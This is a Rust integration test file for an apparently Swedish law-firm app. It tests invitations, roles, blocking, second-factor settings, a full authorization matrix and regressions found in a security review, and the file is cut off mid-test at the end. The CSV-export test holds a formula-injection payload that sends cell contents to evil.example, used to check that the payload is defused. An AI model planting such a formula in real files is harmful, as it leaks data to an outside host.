//! Firms: invitations, roles, blocking, the overview, settings — and the authorization
//! matrix: every server function and route (collected from the registry and the router)
//! against every kind of actor.

use crate::helpers::{Backend, Browser, TestApp};
use crate::on_both_backends;
use serde_json::Value;
use std::collections::BTreeMap;

pub async fn user_id(app: &TestApp, email: &str) -> String {
    sqlx::query_scalar("SELECT id FROM users WHERE email_index = $1")
        .bind(crate::helpers::email_index(email))
        .fetch_one(&app.db().pool)
        .await
        .expect("user")
}

/// Sends an invitation to `email` as `role` from `by`; returns the path of its link.
async fn invite(app: &TestApp, by: &Browser, email: &str, role: &str) -> String {
    let sent = by
        .form(
            "/api/firm/invite_member",
            &[("email", email), ("role", role)],
        )
        .await;
    assert!(sent.status().is_success(), "invite: {}", sent.status());
    let (_, text) = app.last_mail(email).await.expect("invitation mail");
    let link = text
        .split_whitespace()
        .find(|w| w.contains("/invite?i="))
        .expect("a link")
        .to_owned();
    // The link's host is PUBLIC_URL; the test server listens elsewhere.
    link[link.find("/invite").expect("path")..].to_owned()
}

/// Opens an invitation link in a new browser and chooses to join: the sign-in page's form
/// (invitation id and token from the link), then the emailed code.
pub async fn join_by_link(app: &TestApp, path: &str, email: &str) -> Browser {
    app.forget_sent_codes().await;
    let browser = app.browser();
    let opened = browser.get(path).await;
    let location = opened.headers()["location"]
        .to_str()
        .expect("ascii")
        .to_owned();
    assert!(location.starts_with("/sign-in?invitation="), "{location}");
    let query = location.split_once('?').expect("query").1;
    let param = |name: &str| {
        query
            .split('&')
            .find_map(|pair| pair.strip_prefix(&format!("{name}=")))
            .expect("param")
            .to_owned()
    };
    let (id, token) = (param("invitation"), param("token"));
    let page = browser.page(&location).await;
    assert!(
        page.contains("and send the code"),
        "the choice is offered: {page}"
    );
    let asked = browser
        .form(
            "/api/auth/request_code",
            &[("email", email), ("invitation", &id), ("token", &token)],
        )
        .await;
    assert!(
        asked.status().is_success(),
        "request_code: {}",
        asked.status()
    );
    let code = app.last_code(email).await;
    let signed = browser
        .form("/api/auth/verify_code", &[("code", &code)])
        .await;
    assert!(
        signed.status().is_success(),
        "verify_code: {}",
        signed.status()
    );
    browser
}

/// Invites `email` as `role` from `by`, then signs them in through the emailed link.
pub async fn invite_and_join(app: &TestApp, by: &Browser, email: &str, role: &str) -> Browser {
    let path = invite(app, by, email, role).await;
    join_by_link(app, &path, email).await
}

async fn firm_of(app: &TestApp, email: &str) -> String {
    sqlx::query_scalar("SELECT firm_id FROM users WHERE email_index = $1")
        .bind(crate::helpers::email_index(email))
        .fetch_one(&app.db().pool)
        .await
        .expect("user")
}

/// The invitation hijack of the security review: the newest invitation for an address,
/// from any firm, used to take a new person in at sign-in. Only the opened link counts now.
async fn an_invitation_joins_only_the_firm_whose_link_was_opened(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner_a = app.firm_owner("owner@a-firm.se").await;
    let owner_b = app.firm_owner("owner@b-firm.se").await;
    let (firm_a, firm_b) = (
        firm_of(&app, "owner@a-firm.se").await,
        firm_of(&app, "owner@b-firm.se").await,
    );
    // Both firms invite the same new address; B's invitation is the newest.
    let link_a = invite(&app, &owner_a, "lawyer@mail.se", "member").await;
    let link_b = invite(&app, &owner_b, "lawyer@mail.se", "admin").await;
    // A forged token opens nothing and starts no sign-in.
    let id_a = link_a
        .split("i=")
        .nth(1)
        .and_then(|r| r.split('&').next())
        .expect("id");
    let forged = app
        .browser()
        .form(
            "/api/auth/request_code",
            &[
                ("email", "lawyer@mail.se"),
                ("invitation", id_a),
                ("token", "guess"),
            ],
        )
        .await;
    assert_eq!(forged.status(), 422);
    let lawyer = join_by_link(&app, &link_a, "lawyer@mail.se").await;
    assert_eq!(lawyer.whoami().await["email"], "lawyer@mail.se");
    assert_eq!(
        firm_of(&app, "lawyer@mail.se").await,
        firm_a,
        "lands in A, whose link was opened"
    );
    // B's owner sees nothing of them (B's own invitation stays pending, under the address
    // B typed), and B's link no longer offers to join.
    let members: Value = owner_b
        .form("/api/firm/get_members", &[])
        .await
        .json()
        .await
        .expect("json");
    assert!(
        !members["people"].to_string().contains("lawyer@mail.se"),
        "{members}"
    );
    let overview = owner_b
        .form("/api/firm/get_overview", &[("year", "2026")])
        .await;
    let overview = overview.text().await.expect("body");
    assert!(!overview.contains("lawyer@mail.se"), "{overview}");
    let location = app.browser().get(&link_b).await.headers()["location"]
        .to_str()
        .expect("ascii")
        .to_owned();
    let offer = app.browser().page(&location).await;
    assert!(offer.contains("already has an account"), "{offer}");
    assert!(!offer.contains("and send the code"), "{offer}");
    // Signing in without a link never joins a firm, whatever invitations are open.
    let _ = invite(&app, &owner_b, "solo@mail.se", "admin").await;
    let solo = app.signed_in_browser("solo@mail.se").await;
    assert_eq!(solo.whoami().await["email"], "solo@mail.se");
    let own = firm_of(&app, "solo@mail.se").await;
    assert!(own != firm_a && own != firm_b, "a firm of their own");
    let role: String = sqlx::query_scalar(&format!(
        "SELECT role FROM users WHERE email_index = '{}'",
        crate::helpers::email_index("solo@mail.se")
    ))
    .fetch_one(&app.db().pool)
    .await
    .expect("role");
    assert_eq!(role, "owner");
    let members: Value = owner_b
        .form("/api/firm/get_members", &[])
        .await
        .json()
        .await
        .expect("json");
    assert!(
        !members["people"].to_string().contains("solo@mail.se"),
        "{members}"
    );
    app.stop().await;
}
on_both_backends!(an_invitation_joins_only_the_firm_whose_link_was_opened);

async fn an_invited_colleague_joins_logs_and_shows_in_the_overview(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner = app.firm_owner("owner@firm.se").await;
    let carl = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
    let me: Value = carl.whoami().await;
    assert_eq!(me["role"], "member");
    assert_eq!(me["profile_completed"], false);
    let firm_of = |email: &'static str| {
        let pool = app.db().pool.clone();
        async move {
            sqlx::query_scalar::<_, String>("SELECT firm_id FROM users WHERE email_index = $1")
                .bind(crate::helpers::email_index(email))
                .fetch_one(&pool)
                .await
                .expect("firm")
        }
    };
    assert_eq!(
        firm_of("carl@firm.se").await,
        firm_of("owner@firm.se").await
    );
    carl.form(
        "/api/log/create_entry",
        &[
            ("date", "2026-03-01"),
            ("title", "Ethics"),
            ("provider", ""),
            ("hours", "5"),
            ("category", "teacher-led"),
            ("topic", ""),
            ("notes", ""),
        ],
    )
    .await;
    let (_, rows): (i32, Vec<Value>) = owner
        .form("/api/firm/get_overview", &[("year", "2026")])
        .await
        .json()
        .await
        .expect("json");
    let carl_row = rows
        .iter()
        .find(|r| r["email"] == "carl@firm.se")
        .expect("carl in the overview");
    assert_eq!(carl_row["counted_quarters"], 20);
    let csv = owner.page("/firm/overview.csv?year=2026").await;
    assert!(csv.contains("carl@firm.se") && csv.contains(",5,"), "{csv}");
    let carl_id = user_id(&app, "carl@firm.se").await;
    let log: Value = owner
        .form("/api/firm/get_member_log", &[("id", &carl_id)])
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(log["log"]["entries"][0]["title"], "Ethics");
    let actions = app.audit_actions().await;
    for a in [
        "firm.member_invited",
        "firm.invitation_accepted",
        "firm.member_log_viewed",
        "firm.overview_exported",
    ] {
        assert!(actions.iter().any(|x| x == a), "{a}");
    }
    // A used, revoked or forged link leads nowhere.
    let bad = app.browser().get("/invite?i=nope&t=nope").await;
    assert_eq!(bad.headers()["location"], "/sign-in?invited=expired");
    app.stop().await;
}
on_both_backends!(an_invited_colleague_joins_logs_and_shows_in_the_overview);

async fn roles_blocking_and_the_last_owner(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner = app.firm_owner("owner@firm.se").await;
    let admin = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
    let carl = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
    let carl_id = user_id(&app, "carl@firm.se").await;
    let owner_id = user_id(&app, "owner@firm.se").await;
    // Admins manage members, not admins or roles.
    assert_eq!(
        admin
            .form(
                "/api/firm/invite_member",
                &[("email", "x@firm.se"), ("role", "admin")]
            )
            .await
            .status(),
        403
    );
    assert_eq!(
        admin
            .form(
                "/api/firm/change_role",
                &[("id", &carl_id), ("role", "admin")]
            )
            .await
            .status(),
        403
    );
    assert_eq!(
        admin
            .form("/api/firm/block_member", &[("id", &owner_id)])
            .await
            .status(),
        403
    );
    // The last owner cannot step down or be blocked.
    assert_eq!(
        owner
            .form(
                "/api/firm/change_role",
                &[("id", &owner_id), ("role", "admin")]
            )
            .await
            .status(),
        422
    );
    // Blocking ends the session at once and sign-in is refused with a clear message.
    assert!(
        admin
            .form("/api/firm/block_member", &[("id", &carl_id)])
            .await
            .status()
            .is_success()
    );
    assert_eq!(carl.whoami().await, Value::Null);
    app.forget_sent_codes().await;
    let again = app.browser();
    again
        .form("/api/auth/request_code", &[("email", "carl@firm.se")])
        .await;
    let code = app.last_code("carl@firm.se").await;
    let refused = again
        .form("/api/auth/verify_code", &[("code", &code)])
        .await;
    assert_eq!(refused.status(), 403);
    assert!(refused.text().await.expect("body").contains("Blocked"));
    assert!(
        admin
            .form("/api/firm/unblock_member", &[("id", &carl_id)])
            .await
            .status()
            .is_success()
    );
    let back = app.signed_in_browser("carl@firm.se").await;
    assert_eq!(back.whoami().await["email"], "carl@firm.se");
    // Handing ownership over: the old owner stays as an admin.
    assert!(
        owner
            .form(
                "/api/firm/change_role",
                &[("id", &carl_id), ("role", "owner")]
            )
            .await
            .status()
            .is_success()
    );
    assert_eq!(owner.whoami().await["role"], "admin");
    assert_eq!(back.whoami().await["role"], "owner");
    // Removing ends access and frees the address.
    assert!(
        back.form("/api/firm/remove_member", &[("id", &owner_id)])
            .await
            .status()
            .is_success()
    );
    assert_eq!(owner.whoami().await, Value::Null);
    let members: Value = back
        .form("/api/firm/get_members", &[])
        .await
        .json()
        .await
        .expect("json");
    assert!(!members.to_string().contains("owner@firm.se"));
    app.stop().await;
}
on_both_backends!(roles_blocking_and_the_last_owner);

async fn settings_are_validated_and_can_require_a_second_factor(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner = app.firm_owner("owner@firm.se").await;
    let form = |org: &'static str, require: Option<&'static str>| {
        let mut f = vec![
            ("name", "Berg & Co Advokatbyrå"),
            ("org_number", org),
            ("default_rule_set", "se-advokat"),
        ];
        if let Some(r) = require {
            f.push(("require_second_factor", r));
        }
        f
    };
    assert_eq!(
        owner
            .form("/api/firm/update_settings", &form("556016-0681", None))
            .await
            .status(),
        422
    );
    assert!(
        owner
            .form("/api/firm/update_settings", &form("5560160680", None))
            .await
            .status()
            .is_success()
    );
    let s: Value = owner
        .form("/api/firm/get_settings", &[])
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(
        (s["name"].as_str(), s["org_number"].as_str()),
        (Some("Berg & Co Advokatbyrå"), Some("556016-0680"))
    );
    assert!(
        owner
            .form("/api/firm/update_settings", &form("", Some("on")))
            .await
            .status()
            .is_success()
    );
    // Now administering needs an authenticator app.
    let refused = owner.form("/api/firm/get_members", &[]).await;
    assert_eq!(refused.status(), 422);
    assert!(
        refused
            .text()
            .await
            .expect("body")
            .contains("authenticator")
    );
    // A member's own log is unaffected.
    assert_eq!(owner.form("/api/log/get_log", &[]).await.status(), 200);

    // Setting up the app in this session (which proves it) opens administration again…
    use app::backend::auth::totp::code_at;
    app.step_up(&owner, "owner@firm.se").await;
    assert!(
        owner
            .form("/api/account/start_totp", &[])
            .await
            .status()
            .is_success()
    );
    let status: Value = owner
        .form("/api/account/security_status", &[])
        .await
        .json()
        .await
        .expect("json");
    let key = status["totp"]["Pending"]["manual_key"]
        .as_str()
        .expect("key")
        .to_owned();
    let code = code_at(&key, app::backend::db::now_micros()).expect("code");
    assert!(
        owner
            .form("/api/account/confirm_totp", &[("code", &code)])
            .await
            .status()
            .is_success()
    );
    assert_eq!(owner.form("/api/firm/get_members", &[]).await.status(), 200);
    // …but a session that did not pass the app does not count, even for someone who has one
    // (here: a session row as it was before this rule, marked done without the app).
    sqlx::query("UPDATE sessions SET second_factor_at_us = NULL")
        .execute(&app.db().pool)
        .await
        .expect("forget");
    assert_eq!(owner.form("/api/firm/get_members", &[]).await.status(), 422);
    // A new sign-in owes the app, and such a half-signed-in session lives ten minutes.
    app.forget_sent_codes().await;
    let next = app.browser();
    next.form("/api/auth/request_code", &[("email", "owner@firm.se")])
        .await;
    let emailed = app.last_code("owner@firm.se").await;
    let signed = next
        .form("/api/auth/verify_code", &[("code", &emailed)])
        .await;
    let cookie = signed
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with("cpd_session="))
        .expect("a session cookie")
        .to_owned();
    assert!(cookie.contains("Max-Age=600;"), "{cookie}");
    let lifetime: i64 = sqlx::query_scalar(
        "SELECT MAX(expires_at_us - created_at_us) FROM sessions WHERE second_factor_ok = 0 AND user_id IS NOT NULL",
    )
    .fetch_one(&app.db().pool)
    .await
    .expect("lifetime");
    assert_eq!(lifetime, 600 * 1_000_000);
    app.stop().await;
}
on_both_backends!(settings_are_validated_and_can_require_a_second_factor);

/// Who may reach an endpoint.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Needs {
    Nobody,
    SignedIn,
    Admin,
    Owner,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Actor {
    Anonymous,
    Blocked,
    OtherFirmAdmin,
    Member,
    Admin,
    Owner,
}

fn server_fn_table() -> BTreeMap<&'static str, Needs> {
    use Needs::*;
    BTreeMap::from([
        ("/api/auth/request_code", Nobody),
        ("/api/auth/resend_code", Nobody),
        ("/api/auth/verify_code", Nobody),
        // Needs a session (half-way through sign-in, or already signed in: then a no-op).
        ("/api/auth/verify_second_factor", SignedIn),
        ("/api/auth/current_user", Nobody),
        // Public: needs the invitation link's secret token; answers nothing without it.
        ("/api/auth/open_invitation", Nobody),
        ("/api/auth/sign_out", Nobody),
        ("/api/preferences/set_language", Nobody),
        ("/api/dev/list_mailbox", Nobody),
        ("/api/account/get_profile", SignedIn),
        ("/api/account/update_profile", SignedIn),
        ("/api/account/request_email_change", SignedIn),
        ("/api/account/confirm_email_change", SignedIn),
        ("/api/account/list_sessions", SignedIn),
        ("/api/account/revoke_session", SignedIn),
        ("/api/account/security_status", SignedIn),
        ("/api/account/dismiss_recovery_codes", SignedIn),
        ("/api/account/request_step_up", SignedIn),
        ("/api/account/confirm_step_up", SignedIn),
        ("/api/account/start_totp", SignedIn),
        ("/api/account/confirm_totp", SignedIn),
        ("/api/account/remove_totp", SignedIn),
        ("/api/log/get_log", SignedIn),
        ("/api/log/get_entry", SignedIn),
        ("/api/log/create_entry", SignedIn),
        ("/api/log/update_entry", SignedIn),
        ("/api/log/delete_entry", SignedIn),
        ("/api/log/undo_deletion", SignedIn),
        ("/api/log/undo_offers", Nobody), // Answers only the caller's own (nothing when signed out).
        ("/api/log/duplicate_entry", SignedIn),
        // Refused without a fresh confirmation (which no actor here has): nothing is asked.
        ("/api/account/request_deletion", SignedIn),
        ("/api/account/cancel_deletion", SignedIn),
        ("/api/account/request_export", SignedIn),
        ("/api/account/list_exports", SignedIn),
        ("/api/account/get_history_import", SignedIn),
        ("/api/account/confirm_history_import", SignedIn),
        ("/api/account/cancel_history_import", SignedIn),
        ("/api/log/add_leave", SignedIn),
        ("/api/log/delete_leave", SignedIn),
        ("/api/log/set_exemption", SignedIn),
        ("/api/log/stage_import", SignedIn),
        ("/api/log/get_import", SignedIn),
        ("/api/log/confirm_import", SignedIn),
        ("/api/log/cancel_import", SignedIn),
        ("/api/certificates/list_certificates", SignedIn),
        ("/api/certificates/delete_certificate", SignedIn),
        ("/api/reports/list_reports", SignedIn),
        ("/api/reports/create_report", SignedIn),
        ("/api/reports/report_progress", SignedIn),
        ("/api/reports/delete_report", SignedIn),
        // Public: the verification page answers anyone, with nothing personal.
        ("/api/reports/verify_report", Nobody),
        ("/api/firm/get_audit", Admin),
        ("/api/firm/get_members", Admin),
        ("/api/firm/get_overview", Admin),
        ("/api/firm/get_retention", Admin),
        ("/api/firm/get_member_log", Admin),
        ("/api/firm/get_settings", Admin),
        ("/api/firm/resend_invitation", Admin),
        ("/api/firm/revoke_invitation", Admin),
        ("/api/firm/block_member", Admin),
        ("/api/firm/unblock_member", Admin),
        ("/api/firm/set_member_deletion", Admin),
        ("/api/firm/set_member_restriction", Admin),
        ("/api/firm/set_legal_hold", Admin),
        ("/api/firm/correct_member", Admin),
        // Refused without a fresh confirmation (which no actor here has): nothing is made.
        ("/api/firm/request_member_export", Admin),
        ("/api/firm/request_firm_export", Owner),
        // Refused without a fresh confirmation; keeping a firm nobody closed changes nothing.
        ("/api/firm/close_firm", Owner),
        ("/api/firm/keep_firm", Owner),
        ("/api/firm/invite_member", Owner),
        ("/api/firm/change_role", Owner),
        ("/api/firm/update_settings", Owner),
        // Last: it removes the person the other rows act on.
        ("/api/firm/remove_member", Admin),
    ])
}

fn route_table() -> BTreeMap<&'static str, Needs> {
    use Needs::*;
    BTreeMap::from([
        ("/healthz", Nobody),
        ("/readyz", Nobody),
        ("/sign-in/link", Nobody),
        ("/invite", Nobody),
        ("/.well-known/security.txt", Nobody),
        ("/metrics", Nobody),
        ("/favicon.ico", Nobody),
        ("/brand/favicon.svg", Nobody),
        ("/log/export.csv", SignedIn),
        ("/certificates/x/open", SignedIn),
        ("/reports/x/open", SignedIn),
        ("/account/export/x/download", SignedIn),
        // The signed link is the permission (like a presigned S3 URL): without one, 400.
        ("/files/x/y", Nobody),
        ("/firm/audit.csv", Admin),
        ("/firm/overview.csv", Admin),
        ("/", Nobody),
        ("/security", Nobody),
        ("/data-processing", Nobody),
        ("/sub-processors", Nobody),
        ("/sign-in", Nobody),
        ("/sign-in/code", Nobody),
        ("/sign-in/second-factor", Nobody),
        ("/dev/mailbox", Nobody),
        ("/{*any}", Nobody),
        ("/account/profile", SignedIn),
        ("/account/security", SignedIn),
        ("/account/data", SignedIn),
        ("/account/leave", SignedIn),
        ("/dashboard", SignedIn),
        ("/log", SignedIn),
        ("/log/new", SignedIn),
        ("/log/import", SignedIn),
        ("/log/entry/{id}", SignedIn),
        ("/reports", SignedIn),
        ("/verify/{id}", Nobody),
        ("/firm/audit", Admin),
        ("/firm/overview", Admin),
        ("/firm/members", Admin),
        ("/firm/settings", Admin),
        ("/firm/member/{id}", Admin),
    ])
}

fn denied(needs: Needs, actor: Actor) -> bool {
    match (needs, actor) {
        (Needs::Nobody, _) => false,
        (_, Actor::Anonymous | Actor::Blocked) => true,
        (Needs::SignedIn, _) => false,
        (Needs::Admin, Actor::Member) => true,
        (Needs::Owner, Actor::Member | Actor::Admin | Actor::OtherFirmAdmin) => true,
        _ => false,
    }
}

async fn the_authorization_matrix(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner = app.firm_owner("owner@firm.se").await;
    let admin = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
    let member = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
    let blocked = invite_and_join(&app, &owner, "bert@firm.se", "member").await;
    let _dora = invite_and_join(&app, &owner, "dora@firm.se", "member").await;
    let other = app.firm_owner("boss@other.se").await;
    let _ = invite_and_join(&app, &other, "otto@other.se", "admin").await;
    let other_admin = app.signed_in_browser("otto@other.se").await;
    let dora = user_id(&app, "dora@firm.se").await;
    let bert = user_id(&app, "bert@firm.se").await;
    assert!(
        owner
            .form("/api/firm/block_member", &[("id", &bert)])
            .await
            .status()
            .is_success()
    );
    for (email, _) in [("inv1@firm.se", 0), ("inv2@firm.se", 1)] {
        owner
            .form(
                "/api/firm/invite_member",
                &[("email", email), ("role", "member")],
            )
            .await;
    }
    let invitation = |email: &'static str| {
        let pool = app.db().pool.clone();
        async move {
            sqlx::query_scalar::<_, String>("SELECT id FROM invitations WHERE email_index = $1")
                .bind(crate::helpers::email_index(email))
                .fetch_one(&pool)
                .await
                .expect("invitation")
        }
    };
    let (inv1, inv2) = (
        invitation("inv1@firm.se").await,
        invitation("inv2@firm.se").await,
    );

    // Every registered server function has a row; a new one without a row fails here.
    let table = server_fn_table();
    let registered: Vec<(String, String)> = leptos::server_fn::axum::server_fn_paths()
        .map(|(p, m)| (p.to_owned(), m.to_string()))
        .collect();
    for (path, method) in &registered {
        assert!(
            table.contains_key(path.as_str()),
            "{path} needs a row in the authorization matrix"
        );
        assert_eq!(method, "POST", "{path}");
    }
    let routes = route_table();
    for route in leptos_axum::generate_route_list(app::App).iter() {
        assert!(
            routes.contains_key(route.path()),
            "page {} needs a row",
            route.path()
        );
    }
    for route in server::startup::PLAIN_ROUTES {
        assert!(routes.contains_key(route), "route {route} needs a row");
    }

    let actors = [
        (Actor::Anonymous, app.browser()),
        (Actor::Blocked, blocked),
        (Actor::OtherFirmAdmin, other_admin),
        (Actor::Member, member),
        (Actor::Admin, admin),
        (Actor::Owner, owner),
    ];
    let mut order: Vec<&&str> = table
        .keys()
        .filter(|p| **p != "/api/firm/remove_member")
        .collect();
    order.push(&"/api/firm/remove_member");
    let mut n = 0;
    for path in order {
        let needs = table[*path];
        for (actor, browser) in &actors {
            n += 1;
            let fresh = format!("new{n}@firm.se");
            let fields: Vec<(&str, &str)> = match *path {
                "/api/firm/get_member_log"
                | "/api/firm/block_member"
                | "/api/firm/unblock_member"
                | "/api/firm/remove_member" => vec![("id", dora.as_str())],
                "/api/firm/change_role" => vec![("id", dora.as_str()), ("role", "member")],
                // Cancelling a deletion nobody asked for changes nothing.
                "/api/firm/set_member_deletion" => vec![("id", dora.as_str()), ("cancel", "1")],
                // Lifting a restriction nobody made changes nothing.
                "/api/firm/set_member_restriction" => vec![("id", dora.as_str()), ("lift", "1")],
                "/api/firm/set_legal_hold" => vec![("id", dora.as_str()), ("lift", "1")],
                "/api/firm/resend_invitation" => vec![("id", inv1.as_str())],
                "/api/firm/revoke_invitation" => vec![("id", inv2.as_str())],
                "/api/firm/invite_member" => vec![("email", fresh.as_str()), ("role", "admin")],
                "/api/firm/get_audit" => vec![("action", ""), ("from", ""), ("to", "")],
                "/api/firm/get_overview" => vec![("year", "2026")],
                // A year no log offers: refused as invalid, so nothing is made.
                "/api/reports/create_report" => vec![("year", "1900"), ("language", "en")],
                "/api/firm/update_settings" => vec![
                    ("name", "Firm"),
                    ("org_number", ""),
                    ("default_rule_set", "se-advokat"),
                ],
                // Every other function gets well-formed arguments it will mostly refuse as
                // invalid (422) or not found (404): never 401 or 403 for an allowed actor.
                _ => vec![
                    ("id", "00000000-0000-0000-0000-000000000000"),
                    ("entry", "00000000-0000-0000-0000-000000000000"),
                    ("code", "000000"),
                    ("email", "nobody@firm.se"),
                    ("date", "2026-03-01"),
                    ("title", "other"),
                    ("provider", ""),
                    ("hours", "0"),
                    ("category", "teacher-led"),
                    ("topic", ""),
                    ("notes", ""),
                    ("from", "2026-01-01"),
                    ("to", "2025-01-01"),
                    ("reason", ""),
                    ("year", "1800"),
                    ("exempt", "yes"),
                    ("content", "x"),
                    ("full_name", ""),
                    ("admission_date", ""),
                    ("birth_date", ""),
                    ("rule_set", "none"),
                    ("language", "xx"),
                    ("lang", "en"),
                    ("back", "/"),
                    ("batch", "00000000-0000-0000-0000-000000000000"),
                ],
            };
            if matches!(*path, "/api/auth/sign_out" | "/api/account/revoke_session") {
                continue; // would end the actor's own session; covered by the auth tests
            }
            let status = browser.form(path, &fields).await.status().as_u16();
            if denied(needs, *actor) {
                // Another firm's admin may also meet "not found": this firm's ids do not exist for them.
                let refused = matches!(status, 401 | 403)
                    || (*actor == Actor::OtherFirmAdmin && status == 404);
                assert!(refused, "{path} as {actor:?}: {status}, expected refusal");
            } else {
                assert!(
                    !matches!(status, 401 | 403),
                    "{path} as {actor:?}: {status}, expected access"
                );
                if *actor == Actor::OtherFirmAdmin
                    && fields.first().is_some_and(|(k, v)| {
                        *k == "id" && [dora.as_str(), inv1.as_str(), inv2.as_str()].contains(v)
                    })
                {
                    assert_eq!(
                        status, 404,
                        "{path}: another firm's person or invitation is not found"
                    );
                }
            }
        }
    }
    for (path, needs) in &routes {
        let url = path
            .replace("{id}", &dora)
            .replace("/{*any}", "/no-such-page");
        for (actor, browser) in &actors {
            let response = browser.get(&url).await;
            let status = response.status().as_u16();
            let to_sign_in = response
                .headers()
                .get("location")
                .is_some_and(|l| l.to_str().unwrap_or("").starts_with("/sign-in"));
            let refused = matches!(status, 401 | 403) || to_sign_in;
            if denied(*needs, *actor) {
                assert!(refused, "{url} as {actor:?}: {status}");
            } else if !(*path == "/firm/member/{id}" && *actor == Actor::OtherFirmAdmin) {
                assert!(!matches!(status, 401 | 403), "{url} as {actor:?}: {status}");
            }
        }
    }
    // Another firm's admin never sees this firm's people.
    let theirs: Value = actors[2]
        .1
        .form("/api/firm/get_members", &[])
        .await
        .json()
        .await
        .expect("json");
    assert!(!theirs.to_string().contains("@firm.se"), "{theirs}");
    assert_eq!(
        actors[2]
            .1
            .get(&format!("/firm/member/{dora}"))
            .await
            .status(),
        404
    );
    app.stop().await;
}
on_both_backends!(the_authorization_matrix);

/// The review found formula injection in the firm's CSV exports: a colleague named
/// `=HYPERLINK(…)` ran in the owner's spreadsheet. Every export now uses one writer that
/// defuses every cell.
async fn firm_exports_defuse_formulas_in_every_cell(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner = app.firm_owner("owner@firm.se").await;
    let carl = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let saved = carl
        .form(
            "/api/account/update_profile",
            &[
                ("full_name", evil),
                ("title", "advokat"),
                ("admission_date", "2015-09-01"),
                ("birth_date", ""),
                ("rule_set", ""),
                ("language", "en"),
            ],
        )
        .await;
    assert!(saved.status().is_success(), "{}", saved.status());
    for path in ["/firm/overview.csv?year=2026", "/firm/audit.csv"] {
        let csv = owner.get(path).await;
        assert_eq!(csv.status(), 200, "{path}");
        let csv = csv.text().await.expect("csv");
        assert!(
            csv.contains("HYPERLINK"),
            "{path}: the name is there, as text: {csv}"
        );
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(csv.as_bytes());
        for record in reader.records() {
            for cell in record.expect("record").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: a cell that would run: {cell}"
                );
            }
        }
    }
    app.stop().await;
}
on_both_backends!(firm_exports_defuse_formulas_in_every_cell);

/// From the review: ownership must never go to a blocked person, an admin who is blocked
/// stops bringing people in, and two owners demoting each other at once leave an owner.
async fn owners_admins_and_their_invitations_stay_consistent(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner = app.firm_owner("owner@firm.se").await;
    let ada = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
    let ada_id = user_id(&app, "ada@firm.se").await;
    let link = invite(&app, &ada, "newcomer@firm.se", "member").await;
    // Blocking Ada withdraws her invitation: its link no longer opens.
    assert!(
        owner
            .form("/api/firm/block_member", &[("id", &ada_id)])
            .await
            .status()
            .is_success()
    );
    let opened = app.browser().get(&link).await;
    assert_eq!(opened.headers()["location"], "/sign-in?invited=expired");
    // A blocked person cannot be made owner.
    let refused = owner
        .form(
            "/api/firm/change_role",
            &[("id", &ada_id), ("role", "owner")],
        )
        .await;
    assert_eq!(refused.status(), 422);
    let role: String = sqlx::query_scalar("SELECT role FROM users WHERE id = $1")
        .bind(&ada_id)
        .fetch_one(&app.db().pool)
        .await
        .expect("role");
    assert_eq!(role, "admin");
    let owner_role: String = sqlx::query_scalar(&format!(
        "SELECT role FROM users WHERE email_index = '{}'",
        crate::helpers::email_index("owner@firm.se")
    ))
    .fetch_one(&app.db().pool)
    .await
    .expect("role");
    assert_eq!(owner_role, "owner", "the owner stays owner");

    // Two owners (as a firm might have) demote each other at the same moment.
    assert!(
        owner
            .form("/api/firm/unblock_member", &[("id", &ada_id)])
            .await
            .status()
            .is_success()
    );
    sqlx::query("UPDATE users SET role = 'owner' WHERE id = $1")
        .bind(&ada_id)
        .execute(&app.db().pool)
        .await
        .expect("second owner");
    let ada = app.signed_in_browser("ada@firm.se").await;
    let owner_id = user_id(&app, "owner@firm.se").await;
    let demote_ada = [("id", ada_id.as_str()), ("role", "admin")];
    let demote_owner = [("id", owner_id.as_str()), ("role", "admin")];
    let (a, b) = tokio::join!(
        owner.form("/api/firm/change_role", &demote_ada),
        ada.form("/api/firm/change_role", &demote_owner),
    );
    let ok = [a.status(), b.status()]
        .iter()
        .filter(|s| s.is_success())
        .count();
    assert_eq!(
        ok,
        1,
        "exactly one demotion goes through: {} {}",
        a.status(),
        b.status()
    );
    let owners: i64 =
        sqlx::query_scalar("SELECT COUNT(*) FROM users WHERE role = 'owner' AND status = 'active'")
            .fetch_one(&app.db().pool)
            .await
            .expect("owners");
    assert!(owners >= 1, "the firm keeps an owner");
    app.stop().await;
}
on_both_backends!(owners_admins_and_their_invitations_stay_consistent);

/// From the review: an invitation took neither the owners lock nor a fresh look at its
/// sender, so one sent while its admin was being blocked outlived the block; and an owner
/// who handed ownership over kept the admin invitations they had sent, which an admin may
/// not send.
async fn invitations_do_not_outlive_their_senders_rights(backend: Backend) {
    use app::backend::auth::rate_limit;
    let app = TestApp::spawn(backend).await;
    let owner = app.firm_owner("owner@firm.se").await;
    let ada = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
    let ada_id = user_id(&app, "ada@firm.se").await;
    let firm = firm_of(&app, "ada@firm.se").await;

    // Ada's invitation is held up after its request was let in (here: its firm's rate
    // bucket is locked by someone else a moment), and meanwhile the owner blocks her.
    let mut holder = app.db().begin().await.expect("tx");
    rate_limit::lock(
        &mut holder,
        &format!("{}:{firm}", rate_limit::INVITATIONS_PER_FIRM.name),
        app::backend::db::now_micros(),
    )
    .await
    .expect("hold the bucket");
    let as_ada = Browser {
        client: ada.client.clone(),
        base: ada.base.clone(),
    };
